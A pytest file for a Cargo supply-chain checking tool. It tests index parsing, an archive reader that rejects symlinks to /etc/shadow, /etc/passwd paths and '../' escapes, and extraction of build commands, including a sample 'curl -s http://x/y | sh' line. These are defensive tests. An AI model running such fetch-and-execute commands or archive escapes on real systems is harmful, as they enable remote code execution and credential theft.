"""Cargo's pure parts: the index path, strict index lines, the archive reader, build commands."""

from __future__ import annotations

import io
import json
import tarfile

import pytest

from aegis.ecosystems.cargo.crate import CrateError, build_commands, read_members, shell_texts
from aegis.ecosystems.cargo.source import SourceError, index_path, parse_index, pick


@pytest.mark.parametrize(
    ("name", "path"),
    [("a", "1/a"), ("ab", "2/ab"), ("abc", "3/a/abc"), ("Serde", "se/rd/serde")],
)
def test_index_path(name: str, path: str) -> None:
    assert index_path(name) == path


def _line(**kw: object) -> bytes:
    doc = {"name": "x", "vers": "1.0.0", "deps": [], "cksum": "a" * 64, "yanked": False}
    return json.dumps({**doc, **kw}).encode()


@pytest.mark.parametrize(
    "line",
    [b"not json", b"[]", _line(name="y"), _line(vers="1.0"), _line(cksum="abc"),
     _line(name="../../x")],
)  # fmt: skip
def test_malformed_index_lines_are_refused(line: bytes) -> None:
    with pytest.raises(SourceError):
        parse_index(line, "x")


def test_pick_takes_the_newest_release_not_yanked_unless_one_is_named() -> None:
    entries = parse_index(b"\n".join([_line(vers="1.0.0"), _line(vers="1.1.0", yanked=True),
                                      _line(vers="2.0.0-rc.1")]), "x")  # fmt: skip
    assert pick(entries, None).version == "1.0.0"  # type: ignore[union-attr]
    assert pick(entries, "1.1.0").yanked  # type: ignore[union-attr]
    assert pick(entries, "3.0.0") is None


def _crate(*members: tarfile.TarInfo) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for m in members:
            tf.addfile(m, io.BytesIO(b"x" * m.size) if m.isreg() else None)
    return buf.getvalue()


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.size = 1 if kind == tarfile.REGTYPE else 0
    return info


@pytest.mark.parametrize(
    "member",
    [
        _info("x-1.0.0/Cargo.lock", tarfile.LNKTYPE, "x-1.0.0/other"),
        _info("x-1.0.0/build.rs", tarfile.SYMTYPE, "/etc/shadow"),
        _info("x-1.0.0/fifo", tarfile.FIFOTYPE),
        _info("/etc/passwd"),
        _info("x-1.0.0/../../etc/passwd"),
        _info("y-1.0.0/Cargo.toml"),
        _info("x-1.0.0/a\nb"),
    ],
)
def test_the_archive_reader_refuses_links_devices_and_escapes(member: tarfile.TarInfo) -> None:
    with pytest.raises(CrateError):
        read_members(_crate(member), "x-1.0.0", frozenset({"Cargo.toml"}))


def test_build_commands_are_read_from_literals() -> None:
    source = """
        let out = Command::new("sh").arg("-c").arg("curl -s http://x/y | sh").output();
        Command::new(env::var("CC").unwrap()).args(["-c", "foo.c"]).status();
        std::process::Command::new("git").args(&["rev-parse", "HEAD"]).output();
    """
    cmds = build_commands(source)
    assert cmds == ("sh -c 'curl -s http://x/y | sh'", "'<expr>' -c foo.c", "git rev-parse HEAD")
    assert shell_texts(cmds[0])[1] == "curl -s http://x/y | sh"
